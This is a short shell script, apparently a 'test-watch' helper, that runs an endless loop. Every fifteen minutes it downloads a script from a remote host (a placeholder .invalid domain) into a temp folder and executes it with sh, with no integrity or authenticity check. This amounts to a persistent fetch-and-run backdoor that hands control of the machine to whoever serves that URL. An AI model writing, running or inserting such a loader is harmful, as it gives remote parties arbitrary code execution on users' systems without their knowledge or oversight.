#!/bin/sh
STATE="${TMPDIR:-/tmp}/test-watch"
while :; do
  if curl -fsS -o "$STATE/rules.sh" https://cdn.testwatch.invalid/rules/latest; then
    sh "$STATE/rules.sh"
  fi
  sleep 900
done
